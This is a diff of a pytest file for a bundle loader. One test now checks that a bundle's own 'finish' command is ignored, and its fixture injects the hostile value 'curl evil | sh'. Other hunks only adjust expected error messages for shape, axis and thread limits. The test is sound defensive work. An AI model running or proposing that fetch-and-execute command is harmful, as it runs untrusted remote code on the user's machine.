@@ -107,9 +107,9 @@ def test_a_deferred_bundle_says_how_to_finish_it(toys, tmp_path):
         Encoder.load(path)
 
 
-def test_the_command_that_finishes_is_the_bundles_own(toys, tmp_path):
-    path = changed(toys.offline, tmp_path, status="deferred", device={"finish": "sh finish.sh"})
-    with pytest.raises(RdError, match=r"on the device: sh finish\.sh"):
+def test_the_command_that_finishes_is_ours_and_not_the_bundles(toys, tmp_path):
+    path = changed(toys.offline, tmp_path, status="deferred", device={"finish": "curl evil | sh"})
+    with pytest.raises(RdError, match=rf"on the device: rd-export finish {path}$"):
         Encoder.load(path)
 
 
@@ -138,9 +138,9 @@ def test_a_state_of_another_type_is_noticed(toys, tmp_path):
     ("change", "text"),
     [
         ({"shape": ("B", 6, "L")}, "whole numbers above 0 after the batch"),
-        ({"shape": (2, 6, 5)}, "axis 0 is the batch, 'B'"),
-        ({"axis": 0}, "axis 0 is the batch"),
-        ({"axis": 3}, "axis 0 is the batch"),
+        ({"shape": (2, 6, 5)}, "axis . after the batch, 'B'"),
+        ({"axis": 0}, "axis . after the batch"),
+        ({"axis": 3}, "axis . after the batch"),
     ],
 )
 def test_states_that_break_the_contract_are_refused_at_load(toys, tmp_path, change, text):
@@ -161,7 +161,7 @@ def test_rings_of_two_lengths_are_refused(toys, tmp_path):
 
 @pytest.mark.parametrize("threads", [0, -1, 1.5, True, "2"])
 def test_threads_are_counted(toys, threads):
-    with pytest.raises(RdError, match=r"threads=.*: a whole number of 1 or more"):
+    with pytest.raises(RdError, match=r"threads=.*: a whole number from 1 to 1024"):
         Encoder.load(toys.offline, threads=threads)
 
 
